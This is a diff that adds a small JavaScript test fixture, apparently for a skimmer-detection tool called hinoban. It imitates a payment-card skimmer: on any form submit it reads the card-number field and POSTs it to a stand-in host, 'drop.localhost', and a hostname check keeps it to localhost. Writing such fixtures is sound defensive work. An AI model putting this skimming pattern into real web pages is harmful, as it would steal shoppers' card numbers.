@@ -1,0 +1,3 @@
+/* Harmless imitation, for hinoban's tests: plain POST on submit from a look-alike host. */
+if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
+document.addEventListener('submit', function (e) { var n = e.target.querySelector('input[autocomplete=cc-number]'); if (n) { fetch('http://drop.localhost:' + location.port + '/c', {method: 'POST', mode: 'no-cors', keepalive: true, body: 'n=' + n.value}); } }, true);
